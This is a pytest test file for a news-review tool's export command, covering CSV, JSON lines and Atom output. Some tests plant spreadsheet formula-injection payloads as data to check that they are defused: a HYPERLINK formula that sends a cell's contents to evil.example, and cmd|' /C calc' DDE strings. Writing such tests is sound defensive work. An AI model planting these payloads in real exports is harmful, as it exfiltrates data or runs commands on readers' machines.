"""`newsmon export`: the review queue as CSV, JSON lines and Atom, from real stored articles."""

from __future__ import annotations

import csv
import io
import json
import signal
import sqlite3
import subprocess
import sys
from contextlib import closing
from xml.etree import ElementTree as ET

import pytest
from click.testing import CliRunner

from crawler.export import atom_feed, export, no_formula, rfc3339
from crawler.serve import build_datasette
from storage import open_db, queries

from .test_serve import QUEUE, REVIEWER, call

ATOM = "{http://www.w3.org/2005/Atom}"


def run_export(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(export, list(args))
    return result.exit_code, result.stdout, result.stderr


def test_csv_is_the_queue_newest_first_one_line_per_article(review_db):
    path, ids = review_db
    db = open_db(path)
    queries.set_status(db, ids["japannews"], "follow-up", note="ask the desk", by="tester")
    queries.set_status(db, ids["japannews"], "new", note="back: the desk says\nit is relevant", by="tester")
    db.close()
    code, out, err = run_export("--db", str(path), "--format", "csv")
    assert code == 0, err
    assert out.startswith("\ufeffid,")  # the BOM, by default
    rows = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"))))
    # The counterstrike article has no date, so it counts from when it was stored: today.
    assert [int(r["id"]) for r in rows] == [ids["counterstrike"], ids["japannews"], ids["nhk_ukraine"],
                                           ids["nikkei"]]
    # One line per article: header + 4, whatever the notes and evidence hold.
    assert len(out.splitlines()) == 1 + len(rows)
    assert "matched_terms" not in rows[0]
    nikkei = next(r for r in rows if int(r["id"]) == ids["nikkei"])
    assert nikkei["title"].startswith("反撃能力行使")
    # The evidence as text a person reads: each term, how often, where.
    assert nikkei["evidence"].startswith("反撃能力 ×5 — Japan (")
    assert " | 安保関連3文書 ×1" in nikkei["evidence"]
    japannews = next(r for r in rows if int(r["id"]) == ids["japannews"])
    assert japannews["review_note"] == "ask the desk / back: the desk says / it is relevant"
    assert "exported 4 articles" in err
    assert (nikkei["removed_at"], nikkei["removed"]) == ("", "")


def test_an_article_its_outlet_took_down_says_so_in_the_export(review_db):
    path, ids = review_db
    db = open_db(path)
    queries.mark_removed(db, ids["nikkei"], "its page answers HTTP 410 Gone", now="2026-12-01T10:00:00+00:00")
    db.close()
    code, out, _ = run_export("--db", str(path), "--format", "jsonl")
    assert code == 0
    nikkei = next(json.loads(line) for line in out.splitlines() if json.loads(line)["id"] == ids["nikkei"])
    assert (nikkei["removed_at"], nikkei["removed"]) == ("2026-12-01T10:00:00+00:00", "its page answers HTTP 410 Gone")


def test_jsonl_keeps_japanese_and_lists(review_db):
    path, ids = review_db
    code, out, _ = run_export("--db", str(path), "--format", "jsonl")
    assert code == 0
    lines = out.splitlines()
    assert len(lines) == len(QUEUE)
    assert "反撃能力" in out  # not \\u escapes
    first = json.loads(lines[0])
    assert isinstance(first["matched_terms"], list)
    assert first["status"] == "new"


def test_status_selects_reviewed_articles_whatever_their_score(review_db):
    path, ids = review_db
    db = open_db(path)
    queries.set_status(db, ids["nikkei"], "dismissed", note="already covered", by="tester")
    # A reviewer may keep an article the scorer missed.
    queries.set_status(db, ids["asahi_quake"], "relevant", by="tester")
    db.conn.close()

    def exported(*args: str) -> set[int]:
        code, out, _ = run_export("--db", str(path), "--format", "jsonl", *args)
        assert code == 0
        return {json.loads(line)["id"] for line in out.splitlines()}

    assert exported() == {ids[k] for k in QUEUE - {"nikkei"}}
    assert exported("--status", "dismissed") == {ids["nikkei"]}
    assert exported("--status", "relevant") == {ids["asahi_quake"]}
    assert exported("--status", "all") == {ids[k] for k in QUEUE | {"asahi_quake"}}
    assert exported("--status", "follow-up") == set()


def test_since_compares_publication_times_across_offsets(review_db):
    path, ids = review_db
    code, out, _ = run_export("--db", str(path), "--format", "jsonl", "--since", "2024-01-01")
    assert code == 0
    # The counterstrike article has no date: it counts from when it was first seen (today).
    assert {json.loads(line)["id"] for line in out.splitlines()} == {ids["japannews"], ids["counterstrike"]}
    # 2024-10-13T17:41:47+09:00 is 08:41:47 UTC.
    code, out, _ = run_export("--db", str(path), "--format", "jsonl", "--since", "2024-10-13T09:00:00+00:00")
    assert ids["japannews"] not in {json.loads(line)["id"] for line in out.splitlines()}
    # A date, or a time without an offset, is Japan's, as the desk's dates and published_day are:
    # read as UTC, "today's export" left out the morning's articles, published before 9:00 JST.
    code, out, _ = run_export("--db", str(path), "--format", "jsonl", "--since", "2024-10-13T17:00")
    assert ids["japannews"] in {json.loads(line)["id"] for line in out.splitlines()}
    code, out, _ = run_export("--db", str(path), "--format", "jsonl", "--since", "2024-10-13T18:00")
    assert ids["japannews"] not in {json.loads(line)["id"] for line in out.splitlines()}
    from crawler.export import _since

    assert _since("2024-10-13") == "2024-10-13T00:00:00+09:00"


def test_a_base_url_that_is_no_url_is_refused(review_db):
    # Taken as it was, every entry of the feed linked to "notaurl/newsmon/articles/65".
    code, out, err = run_export("--db", str(review_db[0]), "--format", "atom", "--base-url", "notaurl")
    assert code == 2 and out == ""
    assert "--base-url" in err and "'notaurl' is not an http(s) URL" in err


def test_a_bad_since_names_the_flag(review_db):
    code, out, err = run_export("--db", str(review_db[0]), "--format", "csv", "--since", "13/10/2024")
    assert code == 2
    assert "--since" in err and "YYYY-MM-DD" in err


def test_atom_feed_file(review_db, tmp_path):
    path, ids = review_db
    target = tmp_path / "queue.xml"
    code, _, err = run_export("--db", str(path), "--format", "atom", "-o", str(target))
    assert code == 0, err
    feed = ET.parse(target).getroot()
    entries = feed.findall(f"{ATOM}entry")
    assert len(entries) == len(QUEUE)
    urls = {row["id"]: row["url"] for row in open_db(path).query("select id, url from articles")}
    for entry in entries:
        links = {link.get("rel"): link.get("href") for link in entry.findall(f"{ATOM}link")}
        # The review page of the article on `newsmon serve`, and the original as related.
        article_id = int(links["alternate"].removeprefix("http://127.0.0.1:8001/newsmon/articles/"))
        assert links["related"] == urls[article_id] == entry.findtext(f"{ATOM}id")
        assert rfc3339(entry.findtext(f"{ATOM}updated"))
    titles = {e.findtext(f"{ATOM}title") for e in entries}
    assert "ウクライナ 欧米各国による軍事支援が加速 大規模な反転攻勢へ" in titles


def test_bom_for_excel_unless_asked_not_to(review_db, tmp_path):
    target = tmp_path / "queue.csv"
    code, _, _ = run_export("--db", str(review_db[0]), "--format", "csv", "-o", str(target))
    assert code == 0
    assert target.read_bytes().startswith(b"\xef\xbb\xbfid,")
    code, _, _ = run_export("--db", str(review_db[0]), "--format", "csv", "--no-bom", "-o", str(target))
    assert code == 0
    assert target.read_bytes().startswith(b"id,")


def test_an_export_to_a_file_gets_the_mode_open_gives_a_new_one_and_keeps_an_existing_ones(review_db, tmp_path):
    # Written beside FILE and renamed (a stopped export leaves FILE whole): a new FILE as open() makes it, readable
    # by the group and others under the usual umask, not mkstemp's owner-only 0600; an existing one as it was.
    new, kept = tmp_path / "new.csv", tmp_path / "kept.csv"
    kept.write_text("the export of yesterday\n", encoding="utf-8")
    kept.chmod(0o640)
    for target in (new, kept):
        code, _, err = run_export("--db", str(review_db[0]), "--format", "csv", "-o", str(target))
        assert code == 0, err
        assert target.read_bytes().startswith(b"\xef\xbb\xbfid,")
    assert oct(new.stat().st_mode & 0o777) == oct(0o666 & ~_umask())
    assert oct(kept.stat().st_mode & 0o777) == oct(0o640)
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".csv" or ".part" in p.name) == [
        "kept.csv", "new.csv"]  # no part left beside them


def test_atom_links_to_the_given_server(review_db, tmp_path):
    path, ids = review_db
    code, out, _ = run_export("--db", str(path), "--format", "atom", "--base-url", "https://desk.example.org/")
    assert code == 0
    hrefs = {link.get("href") for link in ET.fromstring(out).iter(f"{ATOM}link") if link.get("rel") == "alternate"}
    assert f"https://desk.example.org/newsmon/articles/{ids['nikkei']}" in hrefs


def test_empty_feed_is_valid():
    feed = ET.fromstring(atom_feed([], title="t", feed_id="urn:x"))
    assert feed.findtext(f"{ATOM}updated") and feed.findall(f"{ATOM}entry") == []


def test_a_missing_database_is_named(tmp_path):
    code, _, err = run_export("--db", str(tmp_path / "none.db"), "--format", "csv")
    assert code == 1
    assert "no database at" in err


@pytest.mark.parametrize(("value", "expected"), [
    ("2024-10-13T17:41:47+09:00", "2024-10-13T17:41:47+09:00"),
    ("2024-10-13", "2024-10-13T00:00:00+00:00"),
    ("2024-10-13T08:41:47Z", "2024-10-13T08:41:47+00:00"),
    ("令和6年10月13日", None),
    (None, None),
])
def test_rfc3339(value, expected):
    assert rfc3339(value) == expected


def set_columns(path, article_id: int, **values) -> None:
    """Change an article the way a person does in DB Browser for SQLite: straight in the file."""
    with closing(sqlite3.connect(path)) as conn, conn:
        conn.execute(f"UPDATE articles SET {', '.join(f'{k} = ?' for k in values)} WHERE id = ?",
                     [*values.values(), article_id])


def csv_rows(out: str) -> dict[int, dict[str, str]]:
    return {int(r["id"]): r for r in csv.DictReader(io.StringIO(out.removeprefix("\ufeff")))}


# Not JSON (edited by hand), JSON but not a list, and a BLOB that is not even UTF-8.
@pytest.mark.parametrize("matched_terms", ["not json", '{"term": "反撃能力", "count": 5}', "[{", b"\xff\xfe"])
def test_an_unreadable_matched_terms_gives_no_terms_but_the_article_is_exported(review_db, matched_terms):
    path, ids = review_db
    set_columns(path, ids["nikkei"], matched_terms=matched_terms)
    code, out, err = run_export("--db", str(path), "--format", "csv")
    assert code == 0, err
    rows = csv_rows(out)
    assert set(rows) == {ids[k] for k in QUEUE}
    assert rows[ids["nikkei"]]["title"].startswith("反撃能力行使")
    code, out, err = run_export("--db", str(path), "--format", "jsonl")
    assert code == 0, err
    terms = {json.loads(line)["id"]: json.loads(line)["matched_terms"] for line in out.splitlines()}
    assert terms[ids["nikkei"]] == []
    assert terms[ids["japannews"]] and all(t["term"] for t in terms[ids["japannews"]])  # the others keep theirs
    code, out, err = run_export("--db", str(path), "--format", "atom")
    assert code == 0, err
    assert len(ET.fromstring(out).findall(f"{ATOM}entry")) == len(QUEUE)


def test_the_desks_csv_download_keeps_a_hand_edited_row_and_defuses_formulas(review_db):
    path, ids = review_db
    set_columns(path, ids["nikkei"], matched_terms="not json", title='=HYPERLINK("http://evil.example/?x="&A1,"x")')
    response = call(build_datasette(path, reviewer=REVIEWER), "get", "/export.csv?status=all")
    assert response.status_code == 200, response.text
    rows = csv_rows(response.content.decode("utf-8"))
    assert rows[ids["nikkei"]]["title"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"x")'


EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"安保3文書 詳細")'


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(review_db):
    path, ids = review_db
    set_columns(path, ids["nikkei"], title=EVIL_TITLE, outlet="@SUM(1+1)*cmd|' /C calc'!A0",
                url="-2+3+cmd|' /C calc'!A0", topic="+1", score=-0.5, removed="\t=1+1")
    db = open_db(path)
    queries.set_status(db, ids["nikkei"], "new", note="=1+1\nsecond line", by="@tester")
    db.close()
    code, out, err = run_export("--db", str(path), "--format", "csv")
    assert code == 0, err
    nikkei = csv_rows(out)[ids["nikkei"]]
    assert nikkei["title"] == "'" + EVIL_TITLE
    assert nikkei["outlet"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert nikkei["url"] == "'-2+3+cmd|' /C calc'!A0"
    assert nikkei["topic"] == "'+1"
    assert nikkei["review_note"] == "'=1+1 / second line"
    assert nikkei["reviewed_by"] == "'@tester"
    assert nikkei["removed"] == "'=1+1"  # one_line took the tab off; the quote goes on what is left
    # The numbers newsmon writes are numbers, a negative score too; ordinary text is untouched.
    assert (nikkei["id"], nikkei["score"]) == (str(ids["nikkei"]), "-0.5")
    assert nikkei["evidence"].startswith("反撃能力 ×5")
    # JSON lines and Atom are for programs and feed readers, not spreadsheets: the title as stored.
    code, out, _ = run_export("--db", str(path), "--format", "jsonl")
    assert code == 0
    assert {json.loads(line)["title"] for line in out.splitlines()} >= {EVIL_TITLE}
    code, out, _ = run_export("--db", str(path), "--format", "atom")
    assert code == 0
    assert EVIL_TITLE in {e.findtext(f"{ATOM}title") for e in ET.fromstring(out).iter(f"{ATOM}entry")}


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+81 3", "'+81 3"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("反撃能力", "反撃能力"), ("a=b", "a=b"), (" =1", " =1"), ("", ""), (None, None), (-0.5, -0.5), (7, 7),
])
def test_no_formula(value, expected):
    assert no_formula(value) == expected


def test_runs_as_a_process(review_db):
    result = subprocess.run([sys.executable, "-m", "crawler.export", "--db", str(review_db[0]), "--format", "csv"],
                            capture_output=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert result.stdout.decode("utf-8").startswith("\ufeffid,published_at,outlet,language,title,url")


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_an_export_stopped_as_it_writes_leaves_the_file_as_it_was(review_db, tmp_path, signum):
    # Written in place, an export stopped by Ctrl-C or SIGTERM left its first rows under the file's name, a
    # complete-looking CSV, and the last whole export was lost.
    from .test_ingest_rescore import _copies, _ctrl_c_when

    db = str(review_db[0])
    _copies(db, 8000)  # some 30,000 rows in the queue: seconds to write
    target = tmp_path / "queue.csv"
    target.write_text("the export of yesterday\n", encoding="utf-8")

    def writing(process) -> bool:
        return any(p.stat().st_size > 100_000 for p in tmp_path.iterdir() if p.name.startswith((".queue.csv",
                                                                                                  "queue.csv")))

    code, stderr = _ctrl_c_when([sys.executable, "-m", "crawler.cli", "export", "--db", db, "--format", "csv", "-o",
                                 str(target)], writing, signum=signum, group=signum == signal.SIGINT)
    how = "Ctrl-C" if signum == signal.SIGINT else "SIGTERM"
    assert code == 128 + signum, stderr[-3000:]
    assert stderr.strip().splitlines()[-1] == (f"newsmon: export stopped ({how}): {target} is left as it was, no part "
                                               "of this export in it: run the same export again")
    assert target.read_text(encoding="utf-8") == "the export of yesterday\n"
    assert sorted(p.name for p in tmp_path.iterdir() if "queue" in p.name) == ["queue.csv"]  # nothing left beside it
    again = subprocess.run([sys.executable, "-m", "crawler.cli", "export", "--db", db, "--format", "csv", "-o",
                            str(target)], capture_output=True, text=True, timeout=120)
    assert again.returncode == 0, again.stderr
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8").removeprefix("\ufeff"))))
    assert len(rows) == count_queue(db)
    assert oct(target.stat().st_mode & 0o777) == oct(0o666 & ~_umask())  # as the file was, not mkstemp's 0600


def count_queue(db: str) -> int:
    with closing(sqlite3.connect(db)) as conn:
        return conn.execute("SELECT count(*) FROM articles WHERE relevant = 1 AND status = 'new'").fetchone()[0]


def _umask() -> int:
    import os

    mask = os.umask(0o022)
    os.umask(mask)
    return mask


@pytest.mark.parametrize("case", ["file one may write, in a directory one may not", "read-only file"])
def test_export_o_writes_where_open_did_and_nowhere_it_refused(review_db, tmp_path, case):
    # Written beside FILE and renamed, an export to a file one may write in a shared folder one may not failed
    # ("Permission denied"), and a file made read-only to keep it was replaced all the same.
    from .conftest import as_permissions_bind

    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "queue.csv"
    target.write_text("the export of yesterday\n", encoding="utf-8")
    writable = case.startswith("file one may write")
    (folder if writable else target).chmod(0o555 if writable else 0o444)
    try:
        result = subprocess.run([*as_permissions_bind(), sys.executable, "-m", "crawler.cli", "export", "--db",
                                 str(review_db[0]), "--format", "csv", "-o", str(target)],
                                capture_output=True, text=True, timeout=120)
    finally:
        folder.chmod(0o755)
    text = target.read_text(encoding="utf-8")
    if writable:
        assert result.returncode == 0, result.stderr
        assert text.startswith("\ufeffid,published_at,")
    else:
        assert result.returncode == 1
        assert result.stderr.strip().endswith(f"Could not open file '{target}': Permission denied")
        assert text == "the export of yesterday\n"
    assert sorted(p.name for p in folder.iterdir()) == ["queue.csv"]


def test_export_o_keeps_the_owner_of_the_file_it_writes_over(review_db, tmp_path):
    # Run by root (a cron job) onto a user's file: written in place it stayed the user's; renamed over it, root's,
    # which its user could then no longer write.
    import os

    if os.geteuid() != 0:
        pytest.skip("only root writes over another user's file")
    target = tmp_path / "queue.csv"
    target.write_text("the export of yesterday\n", encoding="utf-8")
    os.chown(target, 65534, 65534)
    target.chmod(0o640)
    code, _, err = run_export("--db", str(review_db[0]), "--format", "csv", "-o", str(target))
    assert code == 0, err
    assert target.read_text(encoding="utf-8").startswith("\ufeffid,")
    st = target.stat()
    assert (st.st_uid, st.st_gid, oct(st.st_mode & 0o777)) == (65534, 65534, oct(0o640))


def test_an_export_stopped_as_it_writes_in_place_says_the_file_is_incomplete(review_db, tmp_path):
    # Where nothing can be written beside FILE (a folder one may not write), it is written in place, as before:
    # stopped, it said FILE "is left as it was, no part of this export in it" over the first rows of this one.
    from .conftest import as_permissions_bind
    from .test_ingest_rescore import _copies, _ctrl_c_when

    db = str(review_db[0])
    _copies(db, 8000)
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "queue.csv"
    target.write_text("the export of yesterday\n", encoding="utf-8")
    folder.chmod(0o555)
    try:
        code, stderr = _ctrl_c_when([*as_permissions_bind(), sys.executable, "-m", "crawler.cli", "export", "--db", db,
                                     "--format", "csv", "-o", str(target)],
                                    lambda process: target.stat().st_size > 100_000)
    finally:
        folder.chmod(0o755)
    assert code == 130, stderr[-3000:]
    assert stderr.strip().splitlines()[-1] == (f"newsmon: export stopped (Ctrl-C): what it wrote to {target} is "
                                               "incomplete: run the same export again")
